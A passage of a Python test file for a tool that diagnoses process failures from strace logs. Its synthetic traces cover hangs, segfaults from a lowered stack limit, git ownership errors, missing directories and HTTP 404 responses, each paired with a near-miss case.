    assert any("kill(0, SIGKILL)" in e["text"] for e in sent["evidence"])
    # near miss: nobody in the trace sent it
    alone = top(log(tmp_path, text % ""))
    assert alone["hang"] and "no process in the trace sent it" in alone["explanation"]


def test_a_lowered_stack_limit_explains_a_segfault(tmp_path):
    text = """\
2 prlimit64(0, %s, {rlim_cur=256*1024, rlim_max=256*1024}, NULL) = 0
2 clone(child_stack=NULL, flags=CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x1) = 3
3 --- SIGSEGV {si_signo=SIGSEGV, si_code=SEGV_MAPERR, si_addr=0x7ffd0000fff8} ---
3 +++ killed by SIGSEGV (core dumped) +++
"""
    r = top(log(tmp_path, text % "RLIMIT_STACK"))
    assert r["signal"] == "SIGSEGV" and "stack size" in r["explanation"]
    assert any("RLIMIT_STACK" in e["text"] for e in r["evidence"])
    # near miss: another limit says nothing about a segfault
    r = top(log(tmp_path, text % "RLIMIT_NOFILE"))
    assert "RLIMIT_NOFILE" not in str(r["evidence"])


def test_what_an_epoll_wait_waits_on(tmp_path):
    text = """\
4 epoll_create1(EPOLL_CLOEXEC) = 3
4 socket(AF_INET, SOCK_STREAM|SOCK_NONBLOCK, IPPROTO_IP) = 6
4 connect(6, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
4 epoll_ctl(3, EPOLL_CTL_ADD, 6, {events=EPOLLIN, data={u32=6, u64=6}}) = 0
%s4 epoll_wait(3,  <unfinished ...>
4 +++ killed by SIGKILL +++
"""
    hang = top(log(tmp_path, text % ""))
    assert hang["hang"] and hang["address"] == "127.0.0.1:8080"
    # near miss: the socket left the epoll set before the wait
    gone = top(log(tmp_path, text % "4 epoll_ctl(3, EPOLL_CTL_DEL, 6, NULL) = 0\n"))
    assert gone["hang"] and gone["address"] is None


def test_an_ownership_complaint_does_not_trust_root(tmp_path):
    text = """\
7 geteuid() = 65534
7 newfstatat(AT_FDCWD, "/etc/gitconfig", {st_mode=S_IFREG|0644, st_uid=0, st_gid=0, st_size=9, ...}, 0) = 0
7 newfstatat(AT_FDCWD, "/srv/central.git", {st_mode=S_IFDIR|0755, st_uid=0, st_gid=0, st_size=9, ...}, 0) = 0
7 newfstatat(AT_FDCWD, "/srv/central.git/config", {st_mode=S_IFREG|0644, st_uid=0, st_gid=0, st_size=9, ...}, 0) = 0
7 write(2, "fatal: %s"..., 218) = 218
7 exit_group(128) = ?
7 +++ exited with 128 +++
"""
    argv = '7 execve("/usr/lib/git-core/git-receive-pack", ["git-receive-pack", ' \
        '"/srv/central.git"], 0x1 /* 1 var */) = 0\n'
    r = log(tmp_path, argv + text % "detected dubious ownershi")
    assert (top(r)["kind"], top(r)["path"]) == ("stat", "/srv/central.git")
    assert "belongs to uid 0 while the program runs as uid 65534" in top(r)["explanation"]
    # near miss: a complaint about a mode leaves root's files trusted
    r = log(tmp_path, argv + text % "bad permissions on fi")
    assert all(f["kind"] != "stat" for f in r["findings"])


def test_enoent_of_a_creating_call_names_the_missing_directory(tmp_path):
    text = """\
3 openat(AT_FDCWD, "/var/lib/app/state.db", %s) = -1 ENOENT (No such file or directory)
3 write(2, "Error: unable to open database\\n", 31) = 31
3 exit_group(1) = ?
3 +++ exited with 1 +++
"""
    r = top(log(tmp_path, text % "O_RDWR|O_CREAT|O_CLOEXEC, 0644"))
    assert "the directory /var/lib/app does not exist" in r["explanation"]
    # near miss: opening for reading says the file is missing
    r = top(log(tmp_path, text % "O_RDONLY|O_CLOEXEC"))
    assert "the file /var/lib/app/state.db does not exist" in r["explanation"]


def test_a_fallback_search_explains_a_failure_nothing_else_does(tmp_path):
    text = """\
5 getcwd("/srv/notes", 4096) = 11
5 newfstatat(AT_FDCWD, "/srv/notes/.git", 0x7ffe, 0) = -1 ENOENT (No such file or directory)
5 newfstatat(AT_FDCWD, "/srv/notes/.git/HEAD", 0x7ffe, AT_SYMLINK_NOFOLLOW) = -1 ENOENT (No such file or directory)
5 newfstatat(AT_FDCWD, "/srv/.git", 0x7ffe, 0) = -1 ENOENT (No such file or directory)
5 newfstatat(AT_FDCWD, "/srv/.git/HEAD", 0x7ffe, AT_SYMLINK_NOFOLLOW) = -1 ENOENT (No such file or directory)
5 newfstatat(AT_FDCWD, "/.git", 0x7ffe, 0) = -1 ENOENT (No such file or directory)
%s5 write(2, "fatal: not a git repository (or any of the parent directories): .git\\n", 69) = 69
5 exit_group(128) = ?
5 +++ exited with 128 +++
"""
    r = top(log(tmp_path, text % ""))
    assert (r["syscall"], r["errno"], r["path"]) == ("newfstatat", "ENOENT", "/srv/notes/.git")
    assert r["searched"] == ["/srv/notes", "/srv", "/"]
    assert "not found in any of the 3 places searched" in r["explanation"]
    # near miss: a real failure explains it, the probes stay noise
    r = top(log(tmp_path, text % '5 openat(AT_FDCWD, "/srv/notes/notes.db", O_RDONLY) = -1 '
                                 'EACCES (Permission denied)\n'))
    assert (r["syscall"], r["errno"]) == ("openat", "EACCES")


def test_mkdir_over_a_file_is_the_cause_when_nothing_else_is(tmp_path):
    text = """\
3 mkdir("/srv/build", 0777) = -1 EEXIST (File exists)
%s3 write(2, "mkdir: cannot create directory '/srv/build': File exists\\n", 55) = 55
3 exit_group(1) = ?
3 +++ exited with 1 +++
"""
    r = top(log(tmp_path, text % ""))
    assert (r["syscall"], r["errno"], r["path"]) == ("mkdir", "EEXIST", "/srv/build")
    # near miss: mkdir -p's EEXIST on the way, then the real failure
    r = top(log(tmp_path, text % '3 mkdir("/srv/build/out", 0777) = -1 EACCES (Permission '
                                 'denied)\n'))
    assert (r["syscall"], r["errno"], r["path"]) == ("mkdir", "EACCES", "/srv/build/out")


def test_an_http_error_status_is_the_answer(tmp_path):
    text = """\
4 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 3
4 connect(3, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
4 sendto(3, "GET /releases/v2.tar.gz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 45, MSG_NOSIGNAL, NULL, 0) = 45
4 recvfrom(3, "HTTP/1.1 %s\\r\\nContent-Length: 0\\r\\n\\r\\n", 102400, 0, NULL, NULL) = 40
4 close(3) = 0
4 write(2, "curl: (22) The requested URL returned error\\n", 44) = 44
4 exit_group(22) = ?
4 +++ exited with 22 +++
"""
    r = top(log(tmp_path, text % "404 Not Found"))
    assert (r["kind"], r["address"]) == ("http", "127.0.0.1:8080")
    assert r["http"] == {"status": 404, "reason": "Not Found",
                         "request": "GET /releases/v2.tar.gz HTTP/1.1"}
    assert "nothing at that path" in r["explanation"]
    # near miss: a successful answer is no finding
    r = log(tmp_path, text % "200 OK")
    assert all(f["kind"] != "http" for f in r["findings"])
